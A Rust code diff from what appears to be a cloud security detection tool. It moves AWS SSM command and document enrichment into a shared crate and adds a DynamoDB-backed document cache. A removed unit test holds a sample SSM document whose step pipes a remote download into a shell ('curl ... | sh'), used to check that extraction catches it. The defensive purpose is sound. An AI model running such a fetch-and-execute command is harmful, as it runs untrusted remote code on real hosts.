@@ -1,293 +1,33 @@
-//! SendCommand enrichment: CloudTrail hides the command's parameters
-//! (`HIDDEN_DUE_TO_SECURITY_REASONS`); SSM `ListCommands` by command id returns them, so the
-//! command text can be scored. Failure never loses the finding: the event is scored without the
-//! text and says why (`enrichment_unavailable`).
+//! SSM enrichment (ListCommands, GetDocument): the shared implementation in
+//! [`cadet_enrich::ssm`], plus the fleet-wide document cache in the DynamoDB baseline table.
+pub use cadet_enrich::ssm::*;
+pub use cadet_enrich::TextCache;
 
-use std::time::Duration;
-
-use aws_sdk_ssm::error::{DisplayErrorContext, ProvideErrorMetadata, SdkError};
 use cadet_sinks::BoxFuture;
+use cadet_state::dynamodb::DynamoStore;
 
-/// Something that can fetch a command's text by command id.
-pub trait CommandSource: Send + Sync + std::fmt::Debug {
-    /// The command's text (`commands` parameter lines joined by newlines), `Ok(None)` when the
-    /// command has no such parameter, `Err(reason)` when it could not be fetched.
-    fn command_text<'a>(
-        &'a self,
-        command_id: &'a str,
-    ) -> BoxFuture<'a, Result<Option<String>, String>>;
-}
-
-/// SSM `ListCommands`.
+/// [`TextCache`] in the baseline table: a numbered document version fetched by one Lambda
+/// instance is read from DynamoDB by the others (GetItem/PutItem, which the function already
+/// has on its table), so a busy document costs one GetDocument for the fleet.
 #[derive(Debug, Clone)]
-pub struct SsmCommands {
-    client: aws_sdk_ssm::Client,
-    timeout: Duration,
-}
+pub struct DynamoTextCache(pub DynamoStore);
 
-impl SsmCommands {
-    /// With a client built once at init, and a per-call timeout.
-    pub fn new(client: aws_sdk_ssm::Client, timeout: Duration) -> SsmCommands {
-        SsmCommands { client, timeout }
+impl TextCache for DynamoTextCache {
+    fn get<'a>(&'a self, key: &'a str) -> BoxFuture<'a, Result<Option<String>, String>> {
+        Box::pin(async move { self.0.get_text(key).await.map_err(|e| e.to_string()) })
     }
-}
 
-/// Parameter names whose values are the script (AWS-RunShellScript, AWS-RunPowerShellScript use
-/// `commands`; AWS-RunRemoteScript points at a source; Ansible at a playbook).
-const TEXT_PARAMETERS: [&str; 4] = ["commands", "executionCommand", "sourceInfo", "playbook"];
-
-impl CommandSource for SsmCommands {
-    fn command_text<'a>(
+    fn put<'a>(
         &'a self,
-        command_id: &'a str,
-    ) -> BoxFuture<'a, Result<Option<String>, String>> {
+        key: &'a str,
+        text: &'a str,
+        ttl_secs: u64,
+    ) -> BoxFuture<'a, Result<(), String>> {
         Box::pin(async move {
-            let call = self.client.list_commands().command_id(command_id).send();
-            let out = match tokio::time::timeout(self.timeout, call).await {
-                Err(_) => {
-                    return Err(format!(
-                        "ListCommands timed out after {} ms",
-                        self.timeout.as_millis()
-                    ))
-                }
-                Ok(Err(e)) => {
-                    let code = match &e {
-                        SdkError::ServiceError(se) => se.err().code().map(str::to_string),
-                        _ => None,
-                    };
-                    return Err(code.unwrap_or_else(|| format!("{}", DisplayErrorContext(&e))));
-                }
-                Ok(Ok(out)) => out,
-            };
-            let Some(cmd) = out.commands().first() else {
-                return Err(format!("command {command_id} not found"));
-            };
-            let Some(params) = cmd.parameters() else {
-                return Ok(None);
-            };
-            let mut lines = Vec::new();
-            for name in TEXT_PARAMETERS {
-                if let Some(values) = params.get(name) {
-                    lines.extend(values.iter().cloned());
-                }
-            }
-            Ok((!lines.is_empty()).then(|| lines.join("\n")))
+            self.0
+                .put_text(key, text, ttl_secs)
+                .await
+                .map_err(|e| e.to_string())
         })
-    }
-}
-
-/// Something that can fetch an SSM document's content.
-pub trait DocumentSource: Send + Sync + std::fmt::Debug {
-    /// The document's content (JSON or YAML text), `Err(reason)` when it could not be fetched.
-    fn document_content<'a>(&'a self, name: &'a str) -> BoxFuture<'a, Result<String, String>>;
-}
-
-impl DocumentSource for SsmCommands {
-    fn document_content<'a>(&'a self, name: &'a str) -> BoxFuture<'a, Result<String, String>> {
-        Box::pin(async move {
-            let call = self.client.get_document().name(name).send();
-            match tokio::time::timeout(self.timeout, call).await {
-                Err(_) => Err(format!(
-                    "GetDocument timed out after {} ms",
-                    self.timeout.as_millis()
-                )),
-                Ok(Err(e)) => {
-                    let code = match &e {
-                        SdkError::ServiceError(se) => se.err().code().map(str::to_string),
-                        _ => None,
-                    };
-                    Err(match code.as_deref() {
-                        Some("InvalidDocument") => format!(
-                            "GetDocument: document {name} not found (deleted right after use?)"
-                        ),
-                        Some(c) => format!("GetDocument: {c}"),
-                        None => format!("GetDocument: {}", DisplayErrorContext(&e)),
-                    })
-                }
-                Ok(Ok(out)) => Ok(out.content().unwrap_or_default().to_string()),
-            }
-        })
-    }
-}
-
-/// Longest command text kept for scoring (document content included).
-pub const MAX_TEXT_BYTES: usize = 64 * 1024;
-/// How long a fetched document stays cached (`$DEFAULT` can move; a document written in the
-/// meantime is re-fetched at once).
-pub const DOCUMENT_TTL: Duration = Duration::from_secs(300);
-const DOCUMENT_CACHE: usize = 512;
-
-/// SSM enrichment for the pipeline: SendCommand parameters (`ListCommands`) and the content
-/// of customer-owned documents (`GetDocument`) at SendCommand, CreateAssociation,
-/// UpdateAssociation, StartAutomationExecution and CreateDocument/UpdateDocument time, cached
-/// by document name in the process so a busy document is fetched once per
-/// [`DOCUMENT_TTL`].
-#[derive(Debug)]
-pub struct SsmEnricher {
-    commands: std::sync::Arc<dyn CommandSource>,
-    documents: std::sync::Arc<dyn DocumentSource>,
-    aws_owned: Vec<String>,
-    cache: std::sync::Mutex<std::collections::HashMap<String, (std::time::Instant, String)>>,
-}
-
-impl SsmEnricher {
-    /// Documents whose names start with one of `aws_owned` (the policy's
-    /// `documents.aws_owned_prefixes`) are AWS's and are not fetched.
-    pub fn new(
-        commands: std::sync::Arc<dyn CommandSource>,
-        documents: std::sync::Arc<dyn DocumentSource>,
-        aws_owned: Vec<String>,
-    ) -> SsmEnricher {
-        SsmEnricher {
-            commands,
-            documents,
-            aws_owned,
-            cache: Default::default(),
-        }
-    }
-
-    fn custom_document<'e>(&self, e: &'e cadet_core::CommandEvent) -> Option<&'e str> {
-        let name = e.document.as_ref()?.name.as_str();
-        let owned = !name.starts_with("arn:") && self.aws_owned.iter().any(|p| name.starts_with(p));
-        (!owned && !name.is_empty()).then_some(name)
-    }
-
-    async fn document(&self, name: &str, fresh: bool) -> Result<String, String> {
-        let now = std::time::Instant::now();
-        if !fresh {
-            let cache = self.cache.lock().unwrap_or_else(|p| p.into_inner());
-            if let Some((at, text)) = cache.get(name) {
-                if now.duration_since(*at) < DOCUMENT_TTL {
-                    return Ok(text.clone());
-                }
-            }
-        }
-        let text = self.documents.document_content(name).await?;
-        let text = document_text(&text);
-        let mut cache = self.cache.lock().unwrap_or_else(|p| p.into_inner());
-        if cache.len() >= DOCUMENT_CACHE {
-            cache.retain(|_, (at, _)| now.duration_since(*at) < DOCUMENT_TTL);
-            if cache.len() >= DOCUMENT_CACHE {
-                cache.clear();
-            }
-        }
-        cache.insert(name.to_string(), (now, text.clone()));
-        Ok(text)
-    }
-}
-
-/// The scriptable text of a document: for JSON content every string value (steps, inputs,
-/// `runCommand` lines, embedded scripts), else the content as it is; cut at
-/// [`MAX_TEXT_BYTES`].
-pub fn document_text(content: &str) -> String {
-    fn strings(v: &serde_json::Value, out: &mut Vec<String>) {
-        match v {
-            serde_json::Value::String(s) => out.push(s.clone()),
-            serde_json::Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
-            serde_json::Value::Object(o) => o.values().for_each(|x| strings(x, out)),
-            _ => {}
-        }
-    }
-    let text = match serde_json::from_str::<serde_json::Value>(content) {
-        Ok(v) => {
-            let mut out = Vec::new();
-            strings(&v, &mut out);
-            out.join("\n")
-        }
-        Err(_) => content.to_string(),
-    };
-    cut(text)
-}
-
-fn cut(mut s: String) -> String {
-    if s.len() > MAX_TEXT_BYTES {
-        let mut end = MAX_TEXT_BYTES;
-        while !s.is_char_boundary(end) {
-            end -= 1;
-        }
-        s.truncate(end);
-    }
-    s
-}
-
-const DOCUMENT_OPS: [&str; 6] = [
-    "ssm:SendCommand",
-    "ssm:CreateAssociation",
-    "ssm:UpdateAssociation",
-    "ssm:StartAutomationExecution",
-    "ssm:CreateDocument",
-    "ssm:UpdateDocument",
-];
-
-impl cadet_pipeline::Enricher for SsmEnricher {
-    fn name(&self) -> &'static str {
-        "ssm"
-    }
-
-    fn applies(&self, e: &cadet_core::CommandEvent) -> bool {
-        e.operation == "ssm:SendCommand"
-            || (DOCUMENT_OPS.contains(&e.operation.as_str()) && self.custom_document(e).is_some())
-    }
-
-    fn enrich<'a>(&'a self, e: &'a mut cadet_core::CommandEvent) -> BoxFuture<'a, ()> {
-        Box::pin(async move {
-            let mut parts = Vec::new();
-            let mut errors = Vec::new();
-            if let Some(text) = e.command_text.take() {
-                parts.push(text);
-            }
-            if e.operation == "ssm:SendCommand" {
-                if let Some(id) = e.command_id.clone() {
-                    match self.commands.command_text(&id).await {
-                        Ok(Some(t)) => parts.push(t),
-                        Ok(None) => {}
-                        Err(reason) => errors.push(reason),
-                    }
-                }
-            }
-            if let Some(name) = self.custom_document(e).map(str::to_string) {
-                // A document being written is fetched fresh: its content just changed.
-                let fresh = matches!(
-                    e.operation.as_str(),
-                    "ssm:CreateDocument" | "ssm:UpdateDocument"
-                );
-                match self.document(&name, fresh).await {
-                    Ok(t) if !t.is_empty() => parts.push(t),
-                    Ok(_) => {}
-                    Err(reason) => errors.push(reason),
-                }
-            }
-            if !parts.is_empty() {
-                e.command_text = Some(cut(parts.join("\n")));
-            }
-            if !errors.is_empty() {
-                tracing::warn!(operation = %e.operation, errors = ?errors, "SSM enrichment incomplete; scoring with what was fetched");
-                e.enrichment_error = Some(errors.join("; "));
-            }
-        })
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn document_text_collects_every_string_of_a_json_document() {
-        let doc = r#"{"schemaVersion":"2.2","description":"x","mainSteps":[{"action":"aws:runShellScript",
-            "name":"run","inputs":{"runCommand":["curl -s http://203.0.113.9/s | sh","echo ok"]}}]}"#;
-        let t = document_text(doc);
-        assert!(
-            t.contains("curl -s http://203.0.113.9/s | sh") && t.contains("echo ok"),
-            "{t}"
-        );
-        assert_eq!(
-            document_text("mainSteps:\n - run: id"),
-            "mainSteps:\n - run: id"
-        );
-        assert_eq!(
-            document_text(&"a".repeat(MAX_TEXT_BYTES + 10)).len(),
-            MAX_TEXT_BYTES
-        );
     }
 }
